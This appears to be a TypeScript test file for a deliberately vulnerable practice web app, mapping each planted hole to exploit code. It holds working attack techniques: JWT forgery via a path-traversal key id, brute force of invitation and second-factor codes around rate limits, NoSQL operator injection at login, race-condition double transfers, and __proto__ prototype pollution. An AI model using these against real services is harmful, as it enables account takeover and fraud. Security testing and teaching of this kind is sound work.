import { createHmac } from 'node:crypto';
import { readFileSync } from 'node:fs';
import type { HoleId } from '../src/holes/catalogue.ts';
import type { Visit } from './circle-under-test.ts';
import { codeIn, mailedCode } from './identity-steps.ts';
import type { Ways } from './play-use.ts';

const part = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
const signedWith = (kid: string, name: string) => async (visit: Visit) => {
  const key = readFileSync(new URL(`../static/${name}`, import.meta.url));
  const signed = `${part({ alg: 'HS256', typ: 'JWT', kid })}.${part({ sub: 1, exp: 4_102_444_800 })}`;
  const signature = createHmac('sha256', key).update(signed).digest('base64url');
  visit.cookie = '';
  return [await visit.send('/api/me', { headers: { Authorization: `Bearer ${signed}.${signature}` } })];
};

/** Every code from the first one on. */
async function everyCode(visit: Visit) {
  const fields = { name: 'Niemand', email: 'niemand@post.example', password: 'neues passwort' };
  for (let wrong = 0; wrong < 7; wrong++) await visit.post('/join', { ...fields, code: 'none' });
  let answer = await visit.get('/join');
  for (let code = 0; code < 10_000; code++) {
    answer = await visit.post('/join', { ...fields, code: String(code).padStart(4, '0') });
    if (answer.status !== 400) break;
  }
  return [answer];
}

/** The codes before the right one up to it; for each refusal, the code is sent again. */
async function codesUpToTheRightOne(visit: Visit) {
  await visit.post('/profile/second-step', { on: 'yes' });
  await visit.post('/logout');
  await visit.logIn();
  const first = Number(await mailedCode(visit)) - 23;
  let answer = await visit.get('/login/code');
  for (let tried = 0, code = first; tried < 40 && answer.status !== 303; tried++) {
    answer = await visit.post('/login/code', { code: String((code + 1_000) % 1_000).padStart(3, '0') });
    if (answer.status === 429) await visit.post('/login/code/again');
    else code++;
  }
  return [answer];
}

/**
 * Ways that no file can say: with signatures of the circle's own files, until a guess is right, different
 * requests at once, and one whose effect no answer shows.
 */
export const codedWays: Partial<Record<HoleId, Ways>> = {
  'api.login': {
    'every operator': async (visit) => {
      const operators = [
        { $gte: '' },
        { $lt: 'g' },
        { $exists: true },
        { $regex: '^[0-9a-f]+$' },
        { $ne: 1 },
      ];
      const answers = operators.map((password) =>
        visit.json('POST', '/api/token', { email: 'grace.okafor@post.example', password }),
      );
      return Promise.all(answers);
    },
  },
  'saved.search': {
    'under the signature of a search': async (visit) => {
      const signature = /&amp;sig=([\w-]{16})"/.exec((await visit.get('/offers')).text)?.[1] ?? '';
      return [
        await visit.get(`/offers/saved?s=${part({ kind: 'voucher', member: 2, hours: 1 })}&sig=${signature}`),
      ];
    },
  },
  'api.key': {
    'the icon’s content': signedWith('../static/icon.svg', 'icon.svg'),
    'the style sheet, by a longer way': signedWith('./x/../../static/style.css', 'style.css'),
  },
  'invitations.code': { 'counting up': everyCode },
  'second.tries': { 'counting up': codesUpToTheRightOne },
  'credits.twice': {
    'everything and a little': (visit) =>
      Promise.all(
        ['3', '0.25'].map((hours) => visit.post('/credits/transfers', { to: '2', hours, note: 'Danke' })),
      ),
  },
  'voucher.welcome': {
    'in capitals and small letters': async (visit) => {
      const code = codeIn((await visit.get('/mailbox')).text);
      const codes = [code, code.toUpperCase()];
      return Promise.all(codes.map((one) => visit.post('/credits/vouchers', { code: one })));
    },
  },
  'settings.merge': {
    'under any name': async (visit) => [
      await visit.json('PUT', '/api/settings', '{"mail":{"messages":false,"__proto__":{"anything":"x"}}}'),
    ],
  },
};
